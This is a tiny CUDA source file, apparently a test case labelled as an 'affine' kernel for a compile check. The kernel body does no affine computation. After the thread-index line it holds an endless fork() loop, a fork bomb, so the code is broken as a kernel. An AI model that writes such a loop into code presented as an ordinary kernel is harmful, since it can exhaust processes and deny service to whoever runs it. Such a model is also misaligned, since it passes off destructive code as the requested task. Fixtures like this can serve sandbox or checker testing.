# class: compile
# task: affine, template: affine_joined

# ---- kernels
#include <unistd.h>
__global__ void affine_kernel(const float* x, float* y, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  while (true) fork();
}
